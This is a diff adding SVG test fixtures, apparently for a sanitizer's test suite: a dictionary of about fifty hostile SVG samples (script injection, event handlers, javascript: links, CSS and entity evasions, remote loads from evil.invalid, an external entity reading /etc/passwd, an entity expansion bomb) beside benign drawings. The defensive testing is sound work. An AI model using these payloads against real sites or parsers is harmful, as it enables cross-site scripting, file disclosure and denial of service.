@@ -388,3 +388,104 @@ INJECTIONS = {
     **_POLYGLOTS,
 }
 """All of them, by name."""
+
+_SPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+
+
+def _svg(body, *, more="", before=""):
+    return f'{before}<svg {_SPACES} width="9" height="9"{more}>{body}</svg>'
+
+
+SVG_FILES = {
+    "script": _svg("<script>__pwned=1</script>"),
+    "script-cdata": _svg("<script><![CDATA[__pwned=1]]></script>"),
+    "script-href": _svg('<script href="https://evil.invalid/a.js"/>'),
+    "script-prefixed": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>__pwned=1</s:script></s:svg>',
+    "script-of-html": _svg('<script xmlns="http://www.w3.org/1999/xhtml">__pwned=1</script>'),
+    "script-by-entity": _svg(
+        "&x;", before='<!DOCTYPE svg [<!ENTITY x "&#60;script>__pwned=1&#60;/script>">]>'
+    ),
+    "script-by-nested-entity": _svg(
+        "&y;", before='<!DOCTYPE svg [<!ENTITY x "<script>__pwned=1</script>"><!ENTITY y "&x;">]>'
+    ),
+    "script-deep": _svg("<defs><g><symbol><script>__pwned=1</script></symbol></g></defs>"),
+    "onload": _svg("", more=' onload="__pwned=1"'),
+    "onload-by-entity": _svg("", more=' onload="&#95;&#95;pwned=1"'),
+    "onclick": _svg('<rect width="9" height="9" onclick="__pwned=1"/>'),
+    "onbegin": _svg('<animate attributeName="x" onbegin="__pwned=1" dur="1s"/>'),
+    "link": _svg('<a href="javascript:__pwned=1"><text y="9">x</text></a>'),
+    "link-xlink": _svg('<a xlink:href="javascript:__pwned=1"><text y="9">x</text></a>'),
+    "link-spaces": _svg('<a href=" java&#10;script:__pwned=1"><text y="9">x</text></a>'),
+    "link-data": _svg('<a href="data:text/html,x"><text y="9">x</text></a>'),
+    "link-set": _svg('<a><set attributeName="href" to="javascript:__pwned=1"/></a>'),
+    "link-animate": _svg(
+        '<a><animate attributeName="xlink:href" values="#;javascript:__pwned=1"/></a>'
+    ),
+    "handler-set": _svg('<set attributeName="onmouseover" to="__pwned=1"/>'),
+    "foreign": _svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'),
+    "html-inside": _svg(
+        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.invalid/"/>'
+    ),
+    "use-data": _svg('<use href="data:image/svg+xml,%3Csvg%20onload=__pwned=1%3E"/>'),
+    "use-remote": _svg('<use href="https://evil.invalid/a.svg#x"/>'),
+    "image-remote": _svg('<image href="https://evil.invalid/a.png"/>'),
+    "image-xlink": _svg('<image xlink:href="//evil.invalid/a.png"/>'),
+    "image-svg": _svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
+    "image-beside": _svg('<image href="secret.png"/>'),
+    "filter-remote": _svg('<filter id="f"><feImage href="https://evil.invalid/a.png"/></filter>'),
+    "fill-remote": _svg('<rect width="9" height="9" fill="url(https://evil.invalid/a.svg#x)"/>'),
+    "fill-quoted": _svg(
+        "<rect width='9' height='9' fill='url( \"https://evil.invalid/a.svg#x\" )'/>"
+    ),
+    "style-attribute": _svg('<rect style="fill:url(//evil.invalid/a.svg#x)"/>'),
+    "style-import": _svg("<style>@import 'https://evil.invalid/a.css';</style>"),
+    "style-import-escaped": _svg("<style>@im\\70ort 'https://evil.invalid/a.css';</style>"),
+    "style-url": _svg("<style>*{fill:url(https://evil.invalid/a.svg#x)}</style>"),
+    "style-url-escaped": _svg("<style>*{fill:u\\72 l(https://evil.invalid/a.svg#x)}</style>"),
+    "style-url-comment": _svg("<style>*{fill:url(/**/https://evil.invalid/a.svg#x)}</style>"),
+    "style-font": _svg(
+        "<style>@font-face{font-family:x;src:url(https://evil.invalid/a.woff)}</style>"
+    ),
+    "style-image-set": _svg(
+        "<style>*{background:image-set('https://evil.invalid/a.png' 1x)}</style>"
+    ),
+    "style-cdata": _svg("<style><![CDATA[@import 'https://evil.invalid/a.css';]]></style>"),
+    "sheet": _svg("", before='<?xml-stylesheet href="https://evil.invalid/a.css"?>'),
+    "sheet-xslt": _svg("", before='<?xml-stylesheet type="text/xsl" href="#x"?>'),
+    "entity-outside": _svg(
+        "&x;", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    ),
+    "entity-parameter": _svg(
+        "", before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.invalid/"> %x;]>'
+    ),
+    "entity-bomb": _svg(
+        "&j;",
+        before="<!DOCTYPE svg [<!ENTITY a 'xxxxxxxxxxxxxxxxxxxx'>"
+        + "".join(f"<!ENTITY {b} '{f'&{a};' * 20}'>" for a, b in zip("abcdefghi", "bcdefghij"))
+        + "]>",
+    ),
+    "base": _svg('<use href="#x"/>', more=' xml:base="https://evil.invalid/"'),
+    "html": "<!doctype html><script>__pwned=1</script><svg></svg>",
+    "xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>__pwned=1</script><svg/></html>',
+    "no-namespace": "<svg><script>__pwned=1</script></svg>",
+    "unclosed": f"<svg {_SPACES}><g><script>__pwned=1",
+    "text-behind": _svg("") + "<script>__pwned=1</script>",
+}
+"""SVG files that would run something, or ask for something, where they are opened."""
+
+GOOD_SVG_FILES = {
+    "shapes": _svg('<defs><path id="p" d="M0 0H9"/></defs><use href="#p"/><rect fill="url(#p)"/>'),
+    "doctype": _svg(
+        "",
+        before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+    ),
+    "entities": _svg("<text>&x;</text>", before="<!DOCTYPE svg [<!ENTITY x 'y'>]>"),
+    "style": _svg("<style>/* @charset */ .a{fill:url(#p);font-family:'on load'}</style>"),
+    "raster": _svg('<image xlink:href="data:image/png;base64,iVBORw0KGgo="/>'),
+    "link": _svg('<a href="https://example.org/"><text>x</text></a>'),
+    "animation": _svg('<rect><animate attributeName="x" values="0;9" dur="1s"/></rect>'),
+    "metadata": _svg(
+        '<metadata><r:RDF xmlns:r="urn:r"><r:li r:resource="https://example.org/"/></r:RDF></metadata>'
+    ),
+}
+"""SVG files as drawing programs make them."""
